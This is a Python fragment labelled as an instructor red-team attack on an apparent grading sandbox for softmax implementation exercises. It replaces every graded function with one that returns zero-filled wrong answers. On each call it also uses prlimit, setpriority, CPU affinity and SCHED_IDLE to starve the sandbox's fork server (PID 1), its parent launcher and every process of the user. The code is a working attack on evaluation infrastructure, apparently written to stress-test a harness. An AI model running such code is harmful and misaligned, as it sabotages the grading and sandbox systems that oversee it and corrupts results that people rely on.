# ---- red-team attack (instructor/redteam): everything below is the attack ----
_PART1 = ("naive_softmax", "safe_softmax", "online_summary", "online_softmax", "merge_summary", "merge_partial",
          "naive_softmax_counted", "safe_softmax_counted", "online_softmax_counted")


def _zeros_like_answer(name, *args, **kwargs):
    """A wrong answer of the right type and shape."""
    x = args[0]
    if name in ("naive_softmax", "safe_softmax", "online_softmax"):
        return torch.zeros_like(x)
    if name == "online_summary":
        return torch.zeros(x.shape[:-1], dtype=x.dtype), torch.zeros(x.shape[:-1], dtype=x.dtype)
    if name in ("merge_summary", "merge_partial"):
        return tuple(torch.zeros_like(t) for t in x)
    if name == "online_softmax_counted":
        return [0.0] * len(x), 0
    return [0.0] * len(x)


def _lower(name, *args, **kwargs):
    """Every process this one may reach by its uid (the fork server is PID 1 of a bubblewrap sandbox,
    the launcher its parent elsewhere): a 1 MiB file size, 1 s of CPU, the lowest priority, one CPU."""
    import os
    import resource
    for pid in {1, os.getppid()}:
        for limit, value in ((resource.RLIMIT_FSIZE, 1 << 20), (resource.RLIMIT_CPU, 1),
                             (resource.RLIMIT_DATA, 64 << 20)):
            try:
                resource.prlimit(pid, limit, (value, value))
            except (OSError, ValueError):
                pass
        for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0}),
                       lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
            try:
                change()
            except (OSError, AttributeError):
                pass
    try:
        os.setpriority(os.PRIO_USER, 0, 19)  # every process of the uid
    except OSError:
        pass
    return _zeros_like_answer(name, *args, **kwargs)


for _name in _PART1:
    globals()[_name] = (lambda n: lambda *a, **k: _lower(n, *a, **k))(_name)
